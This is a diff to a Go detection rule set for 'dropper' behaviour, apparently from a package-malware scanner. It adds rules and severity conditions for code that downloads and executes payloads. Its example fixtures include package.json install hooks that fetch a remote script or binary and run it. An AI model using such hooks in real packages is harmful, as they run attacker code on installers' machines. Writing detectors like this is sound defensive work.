@@ -16,8 +16,14 @@ func dropper() []Rule {
 				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Download}, Sinks: runs, Script: No, NotScheme: notProgram},
 				{Triggers: []string{b.Install, b.Command}, Sources: []string{b.Download}, Sinks: runs, Script: Yes, Via: encodings, NotScheme: notProgram},
 				{Triggers: []string{b.Load, b.Event}, Sources: []string{b.Download}, Sinks: runs, Via: encodings, NotScheme: notProgram},
+				{Triggers: []string{b.Command, b.Call}, Sources: []string{b.Download}, Name: Server, Sinks: runs, Script: No, NotScheme: notProgram},
 			},
-			Graver: []Condition{{Via: encodings}, {Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No}},
+			Graver: []Condition{
+				{Via: encodings}, {Name: Server},
+				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Code}, Languages: []string{"python"}},
+				{Triggers: []string{b.Install, b.Import}, Sinks: []string{b.Process}, Target: Program},
+				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, All: Yes, Script: No},
+			},
 			Examples: []Example{
 				Package("piped into a shell", `"scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}`, nil),
 				Package("saved, then started", `"scripts":{"postinstall":"wget -q https://c.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"}`, nil),
